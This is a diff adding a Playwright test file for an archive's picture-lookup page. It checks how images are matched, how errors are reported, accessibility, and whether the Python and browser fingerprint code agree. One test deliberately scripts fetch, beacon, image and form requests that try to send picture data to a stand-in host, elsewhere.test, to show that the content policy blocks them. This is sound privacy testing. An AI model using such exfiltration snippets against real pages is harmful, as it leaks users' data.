@@ -1,0 +1,363 @@
+"""The page to ask on whether a picture has been checked: by mouse, keys and clipboard, and what leaves it."""
+
+from __future__ import annotations
+
+import base64
+import io
+import re
+from collections.abc import Iterator
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import pytest
+from PIL import Image, ImageOps
+from playwright.sync_api import Locator, Page, Request, Route, expect
+
+from irrefutable.media.fingerprint import fingerprint, mirrored
+from irrefutable.media.fingerprint_match import compare, distance, votes
+from irrefutable.model.lookup import Fingerprint
+from tests import lookup_archive as archive
+from tests.browser.inspection import PHONE, access_problems, keyboard_problems, named, reflow_problems
+from tests.browser.tools import Kind, OpenPage, Watch, once, serve
+from tests.site_builder import build, edited, write_files
+
+
+@pytest.fixture(scope="session")
+def check_url(shared: Path) -> Iterator[str]:
+    """The base address of an archive whose pictures can be asked for, in English and Arabic."""
+    root = shared / "check"
+
+    def make() -> None:
+        files = archive.archive()
+        site = edited(files["content/site.yaml"], ("languages: [en]", "languages: [en, ar]"))
+        assert build(write_files(root, {**files, "content/site.yaml": site})).published
+
+    once(root.with_suffix(".built"), make)
+    with serve(root / "site") as url:
+        yield url
+
+
+@pytest.fixture
+def asking(open_page: OpenPage, check_url: str) -> Page:
+    page = open_page()
+    page.goto(f"{check_url}/check/")
+    return page
+
+
+def jpeg(image: Image.Image) -> bytes:
+    stream = io.BytesIO()
+    image.save(stream, "JPEG", quality=70)
+    return stream.getvalue()
+
+
+CLAIMED = archive.picture(archive.CLAIMED)
+CROP = jpeg(CLAIMED.crop((160, 60, 560, 420)))
+MIRROR = jpeg(ImageOps.mirror(CLAIMED).resize((480, 360)))
+STRANGER = jpeg(archive.picture(50))
+
+
+def choose(page: Page, content: bytes, name: str = "picture.jpg") -> None:
+    page.locator(".check-file").set_input_files({"name": name, "mimeType": "image/jpeg", "buffer": content})
+
+
+def hand_over(page: Page, content: bytes, how: str) -> None:
+    """Drop or paste a picture, as the browser would report it."""
+    page.evaluate(
+        """([content, how]) => {
+          const bytes = Uint8Array.from(atob(content), (letter) => letter.charCodeAt(0));
+          const files = new DataTransfer();
+          files.items.add(new File([bytes], "picture.jpg", { type: "image/jpeg" }));
+          const options = { bubbles: true, cancelable: true, dataTransfer: files, clipboardData: files };
+          const event = how === "paste" ? new ClipboardEvent(how, options) : new DragEvent(how, options);
+          document.querySelector(".check-drop").dispatchEvent(event);
+        }""",
+        [base64.b64encode(content).decode(), how],
+    )
+
+
+def status(page: Page) -> Locator:
+    return page.get_by_role("status")
+
+
+# ------------------------------------------------------------------------------------------ what is found
+
+
+@pytest.mark.parametrize("how", ["drop", "paste", "choose"])
+def test_a_part_of_a_claimed_picture_is_found(asking: Page, how: str) -> None:
+    if how == "choose":
+        choose(asking, CROP)
+    else:
+        hand_over(asking, CROP, how)
+    expect(status(asking)).to_have_text("Cases found: 1")
+    result = asking.locator(".check-result")
+    expect(result.locator("h2")).to_have_text("A claimed cloud")
+    expect(result.locator(".card-verdict")).to_have_text("False")
+    expect(result.locator(".check-role")).to_contain_text("The claimed picture")
+    expect(result.locator(".check-why")).to_have_text(
+        re.compile(r"Your picture shows a part of it\. Sure: \d+ details are in the same places\.")
+    )
+    expect(result.get_by_role("img", name="A cloud with corners")).to_be_visible()
+    result.get_by_role("link", name="See it in the case").click()
+    asking.wait_for_url("**/cases/shared/#media-seen")
+
+
+def test_a_mirror_image_is_found_and_named(asking: Page) -> None:
+    choose(asking, MIRROR)
+    expect(asking.locator(".check-why")).to_contain_text("Yours is its mirror image.")
+
+
+def test_a_covered_picture_is_named_and_not_shown(asking: Page) -> None:
+    choose(asking, jpeg(archive.picture(archive.COVERED)))
+    result = asking.locator(".check-result")
+    expect(result).to_contain_text("This picture starts covered.")
+    expect(result.get_by_role("img")).to_have_count(0)
+
+
+@pytest.mark.parametrize("seed", [archive.DRAFT, archive.SCHEMATIC, 50])
+def test_what_is_not_found_says_what_that_does_not_mean(asking: Page, seed: int) -> None:
+    choose(asking, jpeg(archive.picture(seed)))
+    expect(status(asking)).to_have_text("It was not found here")
+    expect(asking.get_by_text("That does not mean that it is real")).to_be_visible()
+    expect(asking.locator(".check-result")).to_have_count(0)
+
+
+# --------------------------------------------------------------------------------------- nothing is sent
+
+
+def leaks(requests: list[Request], url: str) -> list[str]:
+    """Return what a page asked for that is no file of the archive's, or that carries something."""
+    allowed = re.compile(r"/(ar/)?check/|/assets/.*|/lookup/[\w.-]+|/cases/[\w-]+/lookup\.json|/media/.*")
+    return [
+        f"{request.method} {request.url}"
+        for request in requests
+        if request.method != "GET"
+        or request.post_data
+        or urlsplit(request.url).query
+        or not request.url.startswith(f"{url}/")
+        or not allowed.fullmatch(urlsplit(request.url).path)
+    ]
+
+
+def test_nothing_of_a_picture_leaves_the_page(open_page: OpenPage, check_url: str) -> None:
+    """Whatever was asked, only files of the archive are fetched; for a stranger, the same as for another."""
+    page = open_page()
+    requests: list[Request] = []
+
+    def note(request: Request) -> None:
+        requests.append(request)
+
+    page.on("request", note)
+    page.goto(f"{check_url}/check/")
+    for content, words in ((CROP, "Cases found: 1"), (STRANGER, "It was not found here")):
+        choose(page, content)
+        expect(status(page)).to_have_text(words)
+    assert not (problems := leaks(requests, check_url)), named(problems)
+    assert sum("/lookup/" in request.url for request in requests) == 3
+    assert not page.context.cookies()
+    assert page.evaluate("() => localStorage.length + sessionStorage.length") == 0
+
+
+@pytest.mark.parametrize(
+    "request_",
+    ["fetch('/check/?bits=1')", "fetch('/lookup/bits.bin', { method: 'POST', body: 'bits' })"],
+    ids=["query", "body"],
+)
+def test_a_request_to_the_own_host_that_carries_something_would_be_seen(asking: Page, request_: str) -> None:
+    """The check above turns red for what no policy can forbid."""
+    requests: list[Request] = []
+
+    def note(request: Request) -> None:
+        requests.append(request)
+
+    asking.on("request", note)
+    asking.route("**/*bits*", lambda route: route.fulfill(status=204))
+    asking.evaluate(f"() => {request_}.then(() => null)")
+    host = f"http://{urlsplit(asking.url).netloc}"
+    assert len(leaks(requests, host)) == 1
+
+
+@pytest.mark.parametrize("how", ["fetch", "beacon", "image", "form"])
+def test_the_policy_stops_what_would_send_it_elsewhere(
+    open_page: OpenPage, watch: Watch, check_url: str, how: str
+) -> None:
+    """The check of the requests above turns red, or the browser refuses, whatever a script tried."""
+    watch.expect(Kind.CONSOLE_ERROR)
+    watch.expect(Kind.POLICY_VIOLATION)
+    if how == "image":
+        # Chromium tells of this one, too, before it refuses it.
+        watch.expect(Kind.THIRD_PARTY_REQUEST)
+    page = open_page()
+    page.goto(f"{check_url}/check/")
+    arrived: list[str] = []
+
+    def answer(route: Route) -> None:
+        arrived.append(route.request.url)
+        route.fulfill(status=204)
+
+    page.route("http://elsewhere.test/**", answer)
+    page.evaluate(
+        """(how) => {
+          const to = "http://elsewhere.test/?picture";
+          if (how === "fetch") return fetch(to).catch(() => null);
+          if (how === "beacon") return navigator.sendBeacon(to, "picture");
+          if (how === "image") return void (new Image().src = to);
+          const form = Object.assign(document.createElement("form"), { action: to, method: "post" });
+          document.body.append(form);
+          form.submit();
+        }""",
+        how,
+    )
+    page.wait_for_timeout(100)
+    assert arrived == []
+
+
+# -------------------------------------------------------------------------------------------- in trouble
+
+
+@pytest.mark.parametrize(
+    ("content", "name", "words"),
+    [
+        (b"these are words", "notes.txt", "This is no picture that your browser can read"),
+        (CROP[:300], "damaged.jpg", "This is no picture that your browser can read"),
+        (
+            jpeg(Image.new("RGB", (300, 200), "grey")),
+            "plain.jpg",
+            "This picture is too plain to be told from others",
+        ),
+    ],
+)
+def test_what_cannot_be_compared_is_told(asking: Page, content: bytes, name: str, words: str) -> None:
+    choose(asking, content, name)
+    expect(status(asking)).to_have_text(words)
+    expect(asking.get_by_role("heading", name=words)).to_be_visible()
+
+
+def test_a_file_that_is_too_large_is_not_read(asking: Page) -> None:
+    asking.evaluate(
+        """() => {
+          const files = new DataTransfer();
+          const file = new File(["x"], "huge.jpg", { type: "image/jpeg" });
+          Object.defineProperty(file, "size", { value: 65 * 1024 * 1024 });
+          Object.defineProperty(document.querySelector(".check-file"), "files", { value: [file], configurable: true });
+          document.querySelector(".check-file").dispatchEvent(new Event("change"));
+        }"""
+    )
+    expect(status(asking)).to_have_text("This picture is too large")
+
+
+@pytest.mark.parametrize("lost", ["**/lookup/index.json", "**/lookup/words-*", "**/lookup.json"])
+def test_an_index_that_does_not_arrive_is_told(
+    open_page: OpenPage, watch: Watch, check_url: str, lost: str
+) -> None:
+    """A failure never looks like a picture that nobody has checked; trying again is enough."""
+    watch.expect(Kind.CONSOLE_ERROR)
+    page = open_page()
+
+    def lose(route: Route) -> None:
+        route.abort("internetdisconnected")
+
+    page.route(lost, lose)
+    page.goto(f"{check_url}/check/")
+    choose(page, CROP)
+    expect(status(page)).to_have_text("The index of pictures cannot be used now")
+    expect(page.get_by_text("It was not found here")).to_be_hidden()
+    page.unroute(lost, lose)
+    page.get_by_role("button", name="Try again").click()
+    expect(status(page)).to_have_text("Cases found: 1")
+
+
+def test_an_archive_without_pictures_says_so(open_page: OpenPage, empty_url: str) -> None:
+    page = open_page()
+    page.goto(f"{empty_url}/check/")
+    choose(page, CROP)
+    expect(status(page)).to_have_text("No picture of this archive can be compared yet")
+
+
+# --------------------------------------------------------------------------------- every reader, any page
+
+
+@pytest.mark.parametrize("language", ["", "/ar"])
+def test_answers_are_for_every_reader(open_page: OpenPage, check_url: str, language: str) -> None:
+    """On a telephone, with keys alone, to a screen reader and from right to left."""
+    page = open_page(viewport=PHONE)
+    page.goto(f"{check_url}{language}/check/")
+    choose(page, CROP)
+    expect(page.locator(".check-result")).to_be_visible()
+    problems = [*access_problems(page), *reflow_problems(page), *keyboard_problems(page)]
+    assert not problems, named(problems)
+
+
+def test_a_picture_is_chosen_with_keys(asking: Page) -> None:
+    button = asking.get_by_role("button", name="Choose a picture")
+    button.focus()
+    with asking.expect_file_chooser(timeout=5000) as chooser:
+        asking.keyboard.press("Enter")
+    assert chooser.value.element.get_attribute("accept") == "image/*"
+
+
+def test_without_script_the_page_leads_to_the_lists(open_page: OpenPage, check_url: str) -> None:
+    page = open_page(viewport=PHONE, java_script_enabled=False)
+    page.goto(f"{check_url}/")
+    page.get_by_role("link", name="Has this picture been checked?").click()
+    expect(page.locator("picture-check")).to_be_hidden()
+    expect(page.get_by_text("Comparing needs JavaScript.")).to_be_visible()
+    page.locator(".check-ways").get_by_role("link", name="Topics").click()
+    page.wait_for_url("**/topics/")
+
+
+# ------------------------------------------------------------------------------------- the same in both
+
+
+_IN_BROWSER = """async ([match, description, pictures]) => {
+  const { fingerprints } = await import(description);
+  const { compare, distance, voter } = await import(match);
+  const prints = pictures.map(([content, width, height]) =>
+    fingerprints(Uint8Array.from(atob(content), (letter) => letter.charCodeAt(0)), width, height));
+  const hex = (numbers) => [...new Uint8Array(numbers.buffer, numbers.byteOffset, numbers.byteLength)]
+    .map((byte) => byte.toString(16).padStart(2, "0")).join("");
+  const padded = (numbers) => Object.assign(new numbers.constructor(64), numbers);
+  const [known] = prints[0];
+  return prints.map((both) => both.map((print) => {
+    const found = compare(print, known);
+    return [
+      [print.width, print.height, hex(print.hash), print.contrast, hex(print.details), hex(print.words), hex(print.places)],
+      [distance(print.hash, known.hash), voter(print)(padded(known.words), padded(known.places), 0)],
+      found && [found.agreeing, found.matrix, found.shown, found.filled],
+    ];
+  }));
+}"""
+
+
+def test_python_and_the_browser_agree(asking: Page) -> None:
+    """Given the same pixels: on every bit of what a picture is known by, and on every number of a match."""
+    crop = CLAIMED.crop((160, 60, 560, 420))
+    pictures = [
+        CLAIMED,
+        crop,
+        archive.picture(9).resize((803, 617)),
+        CLAIMED.resize((700, 97)),
+        CLAIMED.resize((40, 30)),
+    ]
+    scripts = {
+        name: asking.evaluate(
+            "(name) => performance.getEntriesByType('resource').find(({ name: url }) => url.includes(name)).name",
+            name,
+        )
+        for name in ("lookup-match", "lookup-fingerprint")
+    }
+    sent = [[base64.b64encode(each.convert("RGBA").tobytes()).decode(), *each.size] for each in pictures]
+    answer = asking.evaluate(_IN_BROWSER, [scripts["lookup-match"], scripts["lookup-fingerprint"], sent])
+    prints = [(fingerprint(each), fingerprint(mirrored(each))) for each in pictures]
+    known = prints[0][0]
+
+    def told(print_: Fingerprint) -> list[object]:
+        width, height, bits, contrast, *rest = print_
+        match = compare(print_, known)
+        return [
+            [width, height, bits.hex(), contrast, *(part.hex() for part in rest)],
+            [distance(bits, known.hash), votes(print_, known.words, known.places)],
+            match and [match.agreeing, list(match.matrix), match.shown, match.filled],
+        ]
+
+    assert answer == [[told(print_) for print_ in both] for both in prints]
+    assert answer[1][0][2]
